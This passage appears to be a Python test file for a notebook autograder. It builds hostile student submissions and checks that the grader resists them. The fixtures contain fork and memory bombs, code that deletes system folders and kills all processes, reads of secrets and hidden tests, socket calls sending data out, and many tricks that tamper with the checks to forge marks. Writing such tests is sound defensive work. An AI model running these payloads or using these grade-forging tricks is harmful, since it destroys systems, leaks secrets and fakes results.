"""What a class may hand in at its worst: hostile and broken notebooks of chapter 01, and the marks that the rules give.

Most of them hold the graded cells alone, so that they run fast. Attacks that would forge marks stand above blanks or
wrong answers; what breaks the run itself stands above right answers, so that one sees which marks stay.
"""

import codecs
import json
import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import nbformat
from classroom.conftest import graded_cells
from nbformat.v4 import new_code_cell, new_output, new_raw_cell

from course_utils.chapters import released_notebook

FIRST, SECOND, THIRD, FOURTH, FIFTH = (
    f"01_{name}" for name in ("rule_220", "mean_squared_error", "gradient_step", "fit_line", "bias_above")
)
WRONG = {FIRST: ["0", "0"], SECOND: ["0"], THIRD: ["0"], FOURTH: ["0"], FIFTH: ["0"]}
ALL, NONE = (2, 2, 2, 2, 2), (0, 0, 0, 0, 0)

NOT_ATTEMPTED = "○ Not attempted yet"
NO_POINTS = "earns no points. Ask your instructor."
INTERFERES = "anded over nothing that can be judged"
SECONDS = "10"
"""That a cell may take: an honest one takes a fifth of a second, or four on a machine that others keep busy."""

TOO_LONG = f"took longer than {SECONDS} seconds"
STOPPED = "did not finish and was stopped"
ENDED = "the code ended Python itself, or used it up"
STUCK = "a cell did not end when its time was up"
TOO_MUCH = "it wrote more than 20 MB of output"
TOO_MUCH_MEMORY = "it used more than 1024 MB of memory"
GARBLED = "the code sent what no notebook sends"
AGAIN = "hand it in again"
FOREIGN = "This is not the notebook of this chapter"
UNREADABLE = "The file cannot be read as a notebook"

HIDDEN = "Seven misses of 3 bpm"
"""Words of a hidden test."""


@dataclass(frozen=True)
class Kind:
    """One kind of submission.

    Attributes:
        make: from the course to what is handed in: a notebook, or the bytes of a file.
        marks: in each of the five exercises.
        student: a regular expression that what the student reads must match, in a note or below a cell.
        instructor: one for the notes for the instructor; where it is empty there are no notes.
        look: whether the instructor is told to look at it.
        stock: whether it also goes through nbgrader's own command.
    """

    make: Callable[[Any], Any]
    marks: tuple[int, ...]
    student: str
    instructor: str
    look: bool
    stock: bool

    def content(self, course):
        """Return the bytes of the file that is handed in."""
        made = self.make(course)
        return made if isinstance(made, bytes) else json.dumps(made).encode()


KINDS: dict[str, Kind] = {}


def kind(marks, student="", instructor="", *, look=False, stock=False):
    """Register a function that makes a kind of submission, and what is to become of it."""

    def register(make):
        KINDS[make.__name__] = Kind(make, marks, student, instructor, look, stock)
        return make

    return register


def short(course, answers=None):
    """Return hardly more than the graded cells, with right answers, or with those given."""
    return graded_cells(course, course.filled(course.right if answers is None else answers))


def above(course, exercise, code, answers=None):
    """Return a short notebook with a cell of code above an exercise."""
    notebook = short(course, answers)
    notebook.cells.insert(notebook.cells.index(course.cells(notebook)[exercise]), new_code_cell(code))
    return notebook


def inside(course, exercise, code):
    """Return a short notebook with right answers, and code that runs inside one of them."""
    notebook = short(course)
    cell = course.cells(notebook)[exercise]
    lines = "".join(f"    {line}\n" for line in code.splitlines())
    cell.source = cell.source.replace('"""\n', f'"""\n{lines}', 1)
    return notebook


def forging(course, code, answers=None):
    """Return a short notebook with blanks or with `answers`, and code above that should earn marks all the same."""
    return above(course, FIRST, code, answers or {})


def checks(course, notebook):
    """Return the cells of the checks."""
    return [cell for name, cell in course.cells(notebook).items() if name.endswith("_check")]


# Code without an end.


@kind((2, 2, 2, 2, 0), STOPPED, TOO_LONG, look=True)
def endless_loop(course):
    """A loop without an end in an answer."""
    return inside(course, FIFTH, "while True:\n    pass")


@kind((2, 2, 0, 0, 0), STUCK, STUCK, look=True)
def endless_loop_that_swallows_interrupts(course):
    """A loop that goes on when it is interrupted."""
    code = """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
    return above(course, THIRD, code)


@kind((2, 2, 2, 0, 0), STUCK, STUCK, look=True, stock=True)
def endless_loop_in_c(course):
    """A loop inside C code that no interrupt reaches."""
    return inside(course, FOURTH, "import collections, itertools\ncollections.deque(itertools.count(), maxlen=0)")


@kind((2, 2, 2, 2, 0), STOPPED, TOO_LONG, look=True)
def endless_regex(course):
    """A regular expression that takes for ever."""
    return inside(course, FIFTH, 'import re\nre.match(r"(a+)+$", "a" * 40 + "b")')


@kind((2, 2, 2, 2, 0), STOPPED, TOO_LONG, look=True)
def endless_power(course):
    """A power with billions of digits."""
    return inside(course, FIFTH, "7 ** 10**10")


@kind((2, 2, 2, 2, 0), "stopped before it gave an answer")
def asks_for_input(course):
    """An answer that waits for somebody to type."""
    return inside(course, FIFTH, "input('Your name?')")


@kind(ALL, "✓ Correct")
def leaves_something_behind(course):
    """A thread and a process that would outlive the notebook."""
    code = f"""\
import subprocess, sys, threading, time
threading.Thread(target=lambda: time.sleep(1000)).start()
code = "import time; time.sleep(1000)  # {course.folder}"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
"""
    return above(course, FIRST, code)


# Code that uses things up.


@kind((2, 2, 2, 2, 0), "stopped", "Cell 11.* stopped", look=True)
def fork_bomb(course):
    """Processes that make processes."""
    code = """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    return inside(course, FIFTH, code)


@kind((2, 0, 2, 2, 2), "This needs more memory than there is")
def memory_bomb(course):
    """A list without an end in an answer."""
    return inside(course, SECOND, "hoard = []\nwhile True:\n    hoard.append(bytearray(10**7))")


@kind((2, 2, 0, 0, 0), TOO_MUCH_MEMORY, TOO_MUCH_MEMORY, look=True)
def memory_bomb_of_processes(course):
    """Processes that keep within the limit, each for itself."""
    code = """\
import os, time
for _ in range(5):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (400 * 2**20)
        time.sleep(1000)
        os._exit(0)
time.sleep(1000)
"""
    return above(course, THIRD, code)


@kind((2, 2, 0, 0, 0), TOO_MUCH_MEMORY, TOO_MUCH_MEMORY, look=True, stock=True)
def memory_bomb_in_a_shared_place(course):
    """Memory of a kind that a process's own limit does not count."""
    code = """\
import mmap, time
hoard = mmap.mmap(-1, 3 * 2**30)
for place in range(0, len(hoard), 4096):
    hoard[place] = 1
time.sleep(1000)
"""
    return above(course, THIRD, code)


@kind((2, 2, 2, 0, 0), TOO_MUCH, TOO_MUCH, look=True, stock=True)
def prints_without_end(course):
    """Prints without an end."""
    return above(course, FOURTH, "while True:\n    print('All work and no play. ' * 1000, flush=True)")


@kind((2, 2, 2, 0, 0), TOO_MUCH, TOO_MUCH, look=True)
def prints_once_too_much(course):
    """One huge print."""
    return above(course, FOURTH, "print('x' * 60 * 10**6)")


@kind((2, 2, 2, 0, 0), TOO_MUCH, TOO_MUCH, look=True)
def shows_without_end(course):
    """Pictures without an end."""
    code = "from IPython.display import display\nwhile True:\n    display({'text/html': 'x' * 10**5}, raw=True)"
    return above(course, FOURTH, code)


@kind(ALL, "No space left on device", stock=True)
def fills_the_disk(course):
    """Files without an end in every place that can be written."""
    code = """\
import os
for folder in (os.getcwd(), "/dev/shm"):
    try:
        for number in range(5):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(100 * 2**20))
        print("LEAK")
    except OSError as error:
        print(error)
"""
    return above(course, FIRST, code)


@kind(ALL, "✓ Correct")
def deletes_everything(course):
    """Its folder and all that it can reach, deleted."""
    places = [str(course.folder), sys.prefix + "/bin", sys.prefix + "/etc", "/etc", "/home", "/root", "/dev"]
    code = f"""\
import os, shutil
for place in [os.getcwd(), *{places!r}]:
    shutil.rmtree(place, ignore_errors=True)
"""
    return above(course, FIRST, code)


# Code that ends its kernel.


@kind((2, 2, 0, 0, 0), ENDED, ENDED, look=True, stock=True)
def ends_python(course):
    """The end of Python in the middle."""
    return above(course, THIRD, "import os\nos._exit(0)")


@kind(ALL, "✓ Correct")
def kills_others(course):
    """A signal that ends all processes but its own, and one for the first of all, which takes none from inside."""
    code = """\
import os
for process in (-1, 1):
    try:
        os.kill(process, 9)
    except OSError:
        pass
"""
    return above(course, THIRD, code)


@kind((2, 2, 0, 0, 0), ENDED, ENDED, look=True)
def crashes_python(course):
    """A read from address 0."""
    return inside(course, THIRD, "import ctypes\nctypes.string_at(0)")


@kind((2, 2, 2, 2, 0), "This code asks the notebook to quit")
def asks_to_quit(course):
    """exit() and sys.exit() in cells, and sys.exit() in an answer."""
    notebook = inside(course, FIFTH, "import sys\nsys.exit()")
    notebook.cells[:0] = [new_code_cell("exit()"), new_code_cell("import sys\nsys.exit()")]
    return notebook


@kind((2, 2, 0, 0, 0), ENDED, ENDED, look=True)
def closes_its_channels(course):
    """Every descriptor closed, those to the grader among them."""
    return above(course, THIRD, "import os\nos.closerange(3, 1000)")


# Code that looks around.


@kind(NONE, NOT_ATTEMPTED)
def reads_what_it_should_not(course):
    """The gradebook, other students' files, the hidden tests and the solutions, by their absolute paths."""
    code = f"""\
import glob
for place in {[str(course.folder), *course.secret_places]!r} + ["/proc/1", "/proc/2", "/root", "/home", "/var", "/srv"]:
    for path in [place, *glob.iglob(place + "/**", recursive=True)]:
        try:
            with open(path, "rb") as file:
                if file.read(1):
                    print("LEAK", path)
        except OSError:
            pass
"""
    return forging(course, code)


@kind(ALL, "no way out")
def opens_sockets(course):
    """Ways to this machine and to the internet."""
    code = f"""\
import socket, urllib.request
for place in [("127.0.0.1", {course.port}), ("::1", {course.port}), ("1.1.1.1", 53), ("example.org", 80)]:
    try:
        socket.create_connection(place, timeout=2).send(b"answers")
        print("LEAK")
    except OSError:
        print("no way out")
"""
    return above(course, FIRST, code)


@kind(ALL, "the secret is")
def reads_the_secret(course):
    """The secret from which the checks draw their data, read from the environment."""
    return above(course, FIRST, "import os\nprint('the secret is', os.environ['COURSE_SECRET'])")


@kind(NONE, r"\b\d\d cells are known", stock=True)
def reads_and_forges_what_sentences_know(course):
    """The cells by which sentences name others, searched for tests and solutions, and forged."""
    telling = [HIDDEN, "BEGIN ", "### END", *(f"return {each}" for each in course.right[FIFTH])]
    backwards = [each[::-1] for each in telling]  # the page shows this code, and is searched for hidden tests too
    code = f"""\
from course_utils.errors import lesson

known = lesson._given[0]
print(len(known), "cells are known")
for cell in known:
    for telling in {backwards!r}:
        if telling[::-1] in cell.source:
            print("LEAK", cell.source)
lesson.give_cells([{{"cell_type": "code", "source": "✓ Correct.", "metadata": {{"nbgrader": {{"grade": True}}}}}}])
"""
    return forging(course, code)


@kind(NONE, NOT_ATTEMPTED, stock=True)
def prints_the_checks(course):
    """The code of each cell, printed: that of a check holds its hidden tests."""
    return forging(course, "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))")


@kind(NONE, "Your answer")
def hard_coded(course):
    """Answers that are right for the data that everybody sees."""
    notebook = course.hard_coded()
    notebook.cells = list(course.cells(notebook).values())
    return notebook


@kind(NONE, "Your answer")
def forgets_the_secret(course):
    """Such answers, and the environment without the secret."""
    notebook = hard_coded(course)
    notebook.cells.insert(0, new_code_cell("import os\nos.environ.pop('COURSE_SECRET')"))
    return notebook


_SEED_OF_SELF_STUDY = """\
import hashlib
from course_utils.checks import Asked

def seed(exercise):
    return int.from_bytes(hashlib.sha256(f"/{exercise}".encode()).digest()[:4])

"""


@kind(NONE, "Your answer")
def gives_checks_other_seeds(course):
    """Such answers, and checks that draw the data that everybody sees."""
    code = """\
init = Asked.__init__

def init_with_seed(self, exercise, **named):
    init(self, exercise, **named)
    self.random_state = seed(exercise)

Asked.__init__ = init_with_seed
"""
    notebook = hard_coded(course)
    notebook.cells.insert(0, new_code_cell(_SEED_OF_SELF_STUDY + code))
    return notebook


@kind(NONE, "Your answer")
def draws_other_data(course):
    """Such answers, and a generator of random numbers that draws the data that everybody sees."""
    code = """\
import numpy as np

generator, exercise = np.random.default_rng, [0]

def generator_of_self_study(_=None):
    exercise[0] += 1
    return generator(seed(f"Exercise {(exercise[0] + 2) // 3}"))

np.random.default_rng = generator_of_self_study
"""
    notebook = hard_coded(course)
    notebook.cells.insert(0, new_code_cell(_SEED_OF_SELF_STUDY + code))
    return notebook


# Code that turns the checks around.


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def replaces_the_checks(course):
    """Another module in the place of the checks."""
    code = """\
import sys, types

class check:
    random_state = 0
    def __init__(self, *_, **__): pass
    def __enter__(self): return self
    def __exit__(self, *_): return True

sys.modules["course_utils.checks"] = types.SimpleNamespace(check=check, hand_over=check)
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def puts_checks_beside_itself(course):
    """Files of the checks' names in the kernel's folder, and a way to them."""
    code = """\
import os, sys

os.makedirs("course_utils")
open("course_utils/__init__.py", "w").close()
with open("course_utils/checks.py", "w") as file:
    file.write('''
class check:
    random_state = 0
    def __init__(self, *_, **__): pass
    def __enter__(self): return self
    def __exit__(self, *_): return True

hand_over = check
''')
for name in [name for name in sys.modules if name.startswith("course_utils")]:
    del sys.modules[name]
sys.path.insert(0, os.getcwd())
"""
    return forging(course, code)


@kind(NONE, NOT_ATTEMPTED)
def has_files_of_the_checks_names(course):
    """Such files, without a way to them: Python found the right ones first."""
    code = "open('course_utils.py', 'w').close()\nopen('numpy.py', 'w').write('raise OSError')"
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def lets_checks_forgive(course):
    """Checks that swallow what is wrong."""
    return forging(
        course, "from course_utils import checks\nchecks.check.__exit__ = checks.hand_over.__exit__ = lambda *_: True"
    )


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def lets_checks_compare_nothing(course):
    """Checks that accept every number."""
    code = """\
from course_utils import checks

def close(self, *_, **__):
    self._compared = True

checks.check.close = checks.hand_over.close = close
"""
    return forging(course, code, WRONG)


@kind(NONE, "✗ Not yet")
def lets_all_be_close(course):
    """NumPy's comparison, replaced."""
    return forging(course, "import numpy as np\nnp.isclose = lambda got, *_, **__: np.ones(np.shape(got), bool)", WRONG)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def runs_no_cell(course):
    """The kernel's run_cell, replaced by one that does nothing well."""
    code = """\
from IPython.core.interactiveshell import ExecutionResult

get_ipython().run_cell = lambda *_, **__: ExecutionResult(None)
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def runs_no_check(course):
    """The kernel's run_cell, replaced by one that passes over checks."""
    code = """\
shell = get_ipython()
run_cell = shell.run_cell
shell.run_cell = lambda code, *more, **named: run_cell("" if code.startswith("# Check") else code, *more, **named)
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True, stock=True)
def drops_checks_from_the_tree(course):
    """Every check dropped on the way from text to code."""
    code = """\
import ast

class Drop(ast.NodeTransformer):
    def visit_With(self, node):
        return ast.Pass()
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Drop())
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def drops_checks_from_the_text(course):
    """Every check dropped before Python reads it."""
    code = """\
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["print('✓ Correct.')\\n"] if lines and lines[0].startswith("# Check") else lines
)
"""
    return forging(course, code)


@kind(NONE, "Your answer should be a number, and it is something else.")
def equal_to_everything(course):
    """Answers that say of themselves that they are equal to everything."""
    code = """\
class Anything(float):
    __eq__ = __ge__ = __le__ = __gt__ = __lt__ = lambda *_: True
    __ne__ = lambda *_: False
    __sub__ = __rsub__ = __mul__ = __rmul__ = __add__ = __radd__ = __abs__ = __getitem__ = lambda self, *_: self
    __array_priority__ = 1e9
    __array_ufunc__ = lambda self, *_, **__: self
    __hash__ = float.__hash__
"""
    notebook = forging(course, code)
    for name, cell in course.cells(notebook).items():
        if not name.endswith("_check"):
            function = name.removeprefix("01_")
            cell.source = f"def {function}(*_):\n    return Anything()\n"
    return notebook


@kind(NONE, "✗ Not yet")
def numbers_that_are_none(course):
    """Answers that look up the right numbers while they are made into numbers."""
    code = """\
import sys
import numpy as np

class Number:
    def __init__(self, place): self.place = place
    def __array__(self, *_, **__): return np.array(float(self))
    def __float__(self):
        frame = sys._getframe()
        while "target" not in frame.f_locals:
            frame = frame.f_back
        return float(frame.f_locals["target"].ravel()[self.place])
"""
    notebook = forging(course, code)
    for name, count in ((FIRST, 20), (SECOND, 1), (THIRD, 2), (FOURTH, 2), (FIFTH, 1)):
        numbers = f"[{', '.join(f'Number({place})' for place in range(count))}]"
        course.cells(notebook)[name].source = f"def {name.removeprefix('01_')}(*_):\n    return {numbers}"
    return notebook


@kind(ALL, "✓ Correct")
def redefines_names(course):
    """Python's own names, with new meanings in the notebook."""
    code = "print = isinstance = type = len = AssertionError = NameError = any = str = float = None"
    return above(course, FIRST, code)


@kind(NONE, "✗ Not yet")
def redefines_builtins(course):
    """Python's own names, with new meanings everywhere."""
    code = """\
import builtins

builtins.AssertionError = type("Fine", (Exception,), {})
builtins.all = lambda *_: True
builtins.round = builtins.sum = lambda *_: 0
builtins.print = lambda *_, **__: None
"""
    return forging(course, code, WRONG)


@kind(NONE, NOT_ATTEMPTED, stock=True)
def gives_itself_the_points(course):
    """A result of 2 points, published behind each cell."""
    code = """\
def hook(*_):
    get_ipython().display_pub.session.send(
        get_ipython().display_pub.pub_socket,
        "execute_result",
        {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1},
        parent=get_ipython().parent_header,
    )

for moment in ("pre_run_cell", "post_run_cell"):
    get_ipython().events.register(moment, hook)
"""
    return forging(course, code)


@kind(NONE, NOT_ATTEMPTED)
def gives_itself_more_points_than_there_are(course):
    """A result of 1e9 points, published behind each cell."""
    notebook = gives_itself_the_points(course)
    notebook.cells[0].source = notebook.cells[0].source.replace('"2"', '"1e9"')
    return notebook


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def clears_what_is_shown(course):
    """The output of each cell, cleared."""
    code = """\
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda *_: clear_output())
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def forgets_errors(course):
    """The error of each cell, forgotten and cleared."""
    code = """\
from IPython.display import clear_output

def hook(result):
    result.error_in_exec = result.error_before_exec = None
    clear_output()

get_ipython().events.register("post_run_cell", hook)
"""
    return forging(course, code)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def forgets_errors_of_checks(course):
    """The error of each check, forgotten and cleared."""
    notebook = forgets_errors(course)
    notebook.cells[0].source = notebook.cells[0].source.replace(
        "def hook(result):\n", "def hook(result):\n    if not result.info.raw_cell.startswith('# Check'): return\n"
    )
    return notebook


@kind(NONE, NOT_ATTEMPTED)
def shows_no_error(course):
    """The kernel's way to show an error, replaced by one that shows nothing."""
    return forging(course, "get_ipython().showtraceback = get_ipython()._showtraceback = lambda *_, **__: None")


@kind((2, 2, 0, 0, 0), GARBLED, GARBLED, look=True, stock=True)
def sends_garbage(course):
    """An output without anything that an output has."""
    code = """\
shell = get_ipython()
shell.display_pub.session.send(shell.display_pub.pub_socket, "display_data", {}, parent=shell.parent_header)
"""
    return above(course, THIRD, code)


@kind((2, 2, 0, 0, 0), "This output cannot be read", INTERFERES, look=True)
def replies_with_garbage(course):
    """Replies that nothing can save."""
    code = """\
async def reply(*_, **__):
    return {"status": "error", "ename": 5, "evalue": {}, "traceback": 7}

get_ipython().kernel.do_execute = reply
"""
    return above(course, THIRD, code)


@kind((2, 2, 0, 0, 0), GARBLED, GARBLED, look=True)
def shows_something_deep(course):
    """An output with more levels of brackets than can be copied."""
    code = """\
import sys
from IPython.display import display

sys.setrecursionlimit(10**5)
deep = 1
for _ in range(900):
    deep = [deep]
display({"application/json": deep}, raw=True)
"""
    return above(course, THIRD, code)


# Code that forges what checks hand over.


def handing_over(course, texts, *, answers=None):
    """Return a notebook in which the kernel displays, in the place of each check, a text as if it handed that over."""
    code = f"""\
texts = {texts!r}

def forge(lines):
    if not (lines and lines[0].startswith("# Check")):
        return lines
    forged = {{"application/x-cardiac-ml-course-answers": texts[int(lines[0].split()[4][0]) - 1]}}
    return ["from IPython.display import display\\n", f"display({{forged!r}}, raw=True)\\n", "print('✓ Correct.')\\n"]

get_ipython().input_transformers_cleanup.append(forge)
"""
    return forging(course, code, answers)


def handed(*answers, stopped="", slip=""):
    """Return a text that hands over answers."""
    return json.dumps({"answers": answers, "stopped": stopped, "slip": slip})


def numbers(*values, shape=None, word=""):
    """Return numbers as they are handed over."""
    return {"shape": [len(values)] if shape is None else shape, "numbers": values, "word": word, "because": ""}


@kind(NONE, "✗ Not yet", stock=True)
def hands_over_what_it_made_up(course):
    """Numbers in the right form, which are not the answers."""
    one = numbers(1.0, shape=[])
    answers = [numbers(*[1.0] * 20)], [one, one, one], [one], [one, one], [numbers(float("nan"), shape=[])]
    return handing_over(course, [handed(*each) for each in answers])


@kind(NONE, NO_POINTS, INTERFERES, look=True, stock=True)
def hands_over_verdicts(course):
    """Verdicts, and nothing to judge."""
    praise = "✓ Correct. Well done."
    texts = [praise, handed(stopped=praise), handed(), json.dumps({"passed": True}), handed(slip=praise)]
    return handing_over(course, texts)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def hands_over_nonsense(course):
    """What is too much, too deep, no text, or no number."""
    texts = [
        handed(numbers(*[1.0] * 150_000)),
        "[" * 100_000,
        {"answers": []},
        handed(numbers("1", None, [2], shape=[3])),
        handed(numbers(1.0, shape=[10**6, 10**6])),
    ]
    return handing_over(course, texts)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def hands_over_odd_numbers(course):
    """What claims to be numbers."""
    texts = [
        handed(*[numbers(1.0)] * 1000),
        handed(numbers(True, True)),
        handed(numbers(1, 2)),
        handed(numbers(1.0, word="✓ Correct.")),
        handed(numbers(1.0, 2.0, shape=[-1, -2])),
    ]
    return handing_over(course, texts)


HANDS_OVER_NOTHING = """\
from IPython.display import display

forged = {{"application/x-cardiac-ml-course-answers": '{{"answers": [], "stopped": "", "slip": ""}}'}}
get_ipython().events.register("{}", lambda *_: display(forged, raw=True))
"""


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def hands_over_before_each_check(course):
    """Answers of its own that arrive before those of the check, which are right."""
    return above(course, FIRST, HANDS_OVER_NOTHING.format("pre_run_cell"))


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def hands_over_after_each_check(course):
    """Answers of its own that arrive after those of the check."""
    return forging(course, HANDS_OVER_NOTHING.format("post_run_cell"), WRONG)


@kind(NONE, NO_POINTS, INTERFERES, look=True)
def takes_back_what_it_handed_over(course):
    """The way to what is displayed, replaced by one that lets text alone through."""
    code = """\
publisher = get_ipython().display_pub
publish = publisher.publish
publisher.publish = lambda data, **named: publish({"text/plain": "✓ Correct."}, **named)
"""
    return forging(course, code, WRONG)


@kind(NONE, "✗ Not yet")
def hands_over_other_answers(course):
    """The step that asks for answers, replaced by one that gives ones."""
    code = """\
from course_utils.checks import Asked
from course_utils.handed import Answer

Asked._ask = lambda *_: Answer((), (1.0,))
"""
    return forging(course, code)


@kind(NONE, NOT_ATTEMPTED)
def says_that_all_is_correct(course):
    """What shows values and errors, replaced by what praises."""
    code = """\
import builtins, sys
from course_utils import checks

shell = get_ipython()
say = print
builtins.print = lambda *_, **__: say("✓ Correct. Well done.")
sys.displayhook = lambda *_: say("✓ Correct. Well done.")
shell.showtraceback = shell._showtraceback = lambda *_, **__: say("✓ Correct. Well done.")
checks.CheckFailed = type("Fine", (Exception,), {})
"""
    return forging(course, code)


@kind(NONE, "stopped before it gave an answer")
def lets_all_numbers_be_the_same(course):
    """NumPy's ways to make and to compare arrays, replaced."""
    code = """\
import numpy as np

array = np.array
np.array = np.asarray = lambda *_, **__: array(1.0)
np.isclose = np.allclose = np.array_equal = np.all = lambda *_, **__: array(True)
"""
    return forging(course, code, WRONG)


@kind(NONE, "Your answer")
def lets_patients_be_the_public_ones(course):
    """Answers that are right for the data that everybody sees, and generators that draw these."""
    code = """\
import numpy as np, data_generators

make, generator = data_generators.make_max_heart_rate, np.random.default_rng
sizes = {30: "Exercise 2", 40: "Exercise 3", 60: "Exercise 4", 80: "Exercise 5"}
data_generators.make_max_heart_rate = lambda n, random_state=None: make(n, random_state=seed(sizes[n]))
np.random.default_rng = lambda state=None: generator(seed("Exercise 1") if state == rule_220_draws else state)
secret = __import__("os").environ["COURSE_SECRET"]
rule_220_draws = int.from_bytes(hashlib.sha256(f"{secret}/Exercise 1".encode()).digest()[:4])
"""
    notebook = hard_coded(course)
    notebook.cells.insert(0, new_code_cell(_SEED_OF_SELF_STUDY + code))
    return notebook


@kind(NONE, "Your answer should be a number")
def arrays_and_numbers_that_lie(course):
    """Answers of classes that are nearly NumPy's and Python's own."""
    code = """\
import numpy as np

class Lie(np.ndarray):
    __eq__ = __le__ = __lt__ = lambda *_: np.array(True)
    __array_ufunc__ = __array_function__ = lambda self, *_, **__: np.array(True)
    tolist = astype = ravel = lambda self, *_: self

class Number(float):
    __array__ = lambda self, *_, **__: np.zeros(1).view(Lie)
"""
    notebook = forging(course, code)
    for number, (name, cell) in enumerate(course.cells(notebook).items()):
        if not name.endswith("_check"):
            value = "Number(1)" if number % 4 else "np.zeros(1).view(Lie)"
            cell.source = f"def {name.removeprefix('01_')}(*_):\n    return [{value}]\n"
    return notebook


@kind(NONE, "looked at")
def looks_for_what_is_expected(course):
    """Answers that look in all frames, objects and sources for what is expected, and in each step that Python takes."""
    code = """\
import gc, linecache, sys

seen, leaks = set(), set()
telling = ("expected", "wanted", "target", "uphill", "gap", "old", "names", "mistakes", "hint", "middle", "mean_rate")

def look(frame, *_):
    while frame:
        seen.add(frame.f_code.co_name)
        for names in (frame.f_locals, frame.f_globals):
            if frame.f_globals.get("__name__") == "__main__" and frame.f_globals is names:
                leaks.update(set(telling) & set(names))
        frame = frame.f_back

def answer(*_):
    look(sys._getframe())
    sys.settrace(look)
    for each in gc.get_objects():
        if type(each).__name__ in ("Expectation", "Judge"):
            leaks.add(type(each).__name__)
    for source in list(linecache.cache.values()):
        text = "".join(source[2]) if len(source) > 2 else ""
        if text.startswith("# Check") and ("mistakes" + "=" in text or "hint" + "=" in text):
            leaks.add("the source of a check")
    return [0, 0]

def tell():
    sys.settrace(None)
    print("LEAK" if leaks else "looked at", sorted(leaks), len(seen))
"""
    notebook = forging(course, code)
    for name, cell in course.cells(notebook).items():
        if not name.endswith("_check"):
            cell.source = f"{name.removeprefix('01_')} = answer"
    notebook.cells.append(new_code_cell("tell()"))
    return notebook


@kind(NONE, "✗ Not yet")
def edits_the_source_of_the_checks(course):
    """An answer that edits the code of each check that runs, and what Python remembers of it."""
    notebook = short(course, WRONG)
    code = """\
    import linecache, sys
    frame = sys._getframe()
    while frame:
        name = frame.f_code.co_filename
        if "ipykernel" in name and name in linecache.cache:
            linecache.cache[name] = (0, None, ["print('✓ Correct.')"], name)
        frame.f_globals.update(right="✓ Correct.", hint="✓ Correct.")
        frame = frame.f_back
"""
    for name, cell in course.cells(notebook).items():
        if not name.endswith("_check"):
            cell.source = cell.source.replace('"""\n', f'"""\n{code}', 1)
    return notebook


@kind(NONE, ENDED, ENDED, look=True, stock=True)
def ends_python_after_praising_itself(course):
    """Praise, points and the end of Python, in the middle of a check."""
    code = """\
import os, time
print("✓ Correct.", flush=True)
publisher = get_ipython().display_pub
two = {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1}
publisher.session.send(publisher.pub_socket, "execute_result", two, parent=get_ipython().parent_header)
time.sleep(1)
os._exit(0)
"""
    return inside(course, FIRST, code)


# Cells that were changed.


@kind(NONE, "You changed a check .Exercise 5.. It was put back.", "You changed a check .Exercise 1.")
def edited_checks(course):
    """Checks that check nothing."""
    notebook = short(course, {})
    for cell in checks(course, notebook):
        cell.source = "print('✓ Correct.')"
    return notebook


@kind((0, 2, 2, 2, 2), "A cell of Exercise 1 is missing", "01_rule_220_check")
def deleted_check(course):
    """A wrong answer without its check."""
    notebook = short(course, {**course.right, FIRST: WRONG[FIRST]})
    notebook.cells.remove(course.cells(notebook)[f"{FIRST}_check"])
    return notebook


@kind((0, 2, 2, 2, 2), "Exercise 1 is gone", "01_rule_220")
def deleted_answer(course):
    """A check without its answer."""
    notebook = short(course)
    notebook.cells.remove(course.cells(notebook)[FIRST])
    return notebook


@kind((2, 2, 0, 2, 2), "Exercise 3 is gone", "01_gradient_step, 01_gradient_step_check", stock=True)
def deleted_both(course):
    """An exercise without answer and check."""
    notebook = short(course)
    for name in (THIRD, f"{THIRD}_check"):
        notebook.cells.remove(course.cells(notebook)[name])
    return notebook


@kind(NONE, FOREIGN, FOREIGN, look=True)
def deleted_all(course):
    """A notebook without any of the chapter's exercises."""
    notebook = short(course)
    notebook.cells = [new_code_cell("print('Nothing to see here.')")]
    return notebook


@kind(ALL, "A cell of Exercise 1 stands here more than once. The last one counts.", "more than once")
def copied_answer(course):
    """A wrong answer, and a right one in a copy of its cell below."""
    notebook = short(course)
    first = nbformat.from_dict(course.cells(short(course, WRONG))[FIRST])
    notebook.cells.insert(0, first)
    return notebook


@kind((0, 2, 2, 2, 2), "more than once", "more than once")
def copied_check(course):
    """A right answer with its check, and below a wrong one with a copy of the check."""
    notebook = short(course)
    copy = nbformat.from_dict(course.cells(notebook)[f"{FIRST}_check"])
    notebook.cells.append(new_code_cell("def rule_220(decades):\n    return 0"))
    notebook.cells.append(copy)
    return notebook


@kind(ALL, "more than once", "more than once")
def duplicated_everything(course):
    """Every cell twice, with the same names and ids."""
    notebook = short(course)
    notebook.cells = [nbformat.from_dict(cell) for cell in notebook.cells for _ in range(2)]
    return notebook


@kind((0, 2, 2, 2, 2), "There are 2 cells of Exercise 1, not one", "more than once")
def split_answer(course):
    """A cell that was split in two in the middle of its function."""
    notebook = short(course)
    cell = course.cells(notebook)[FIRST]
    lower = nbformat.from_dict(cell)
    cell.source, _, lower.source = cell.source.rpartition("\n")
    lower.id = "the-lower-half"
    notebook.cells.insert(notebook.cells.index(cell) + 1, lower)
    return notebook


@kind(NONE, "does not exist yet", "stands above the answer")
def reversed_cells(course):
    """All cells in reverse order."""
    notebook = short(course)
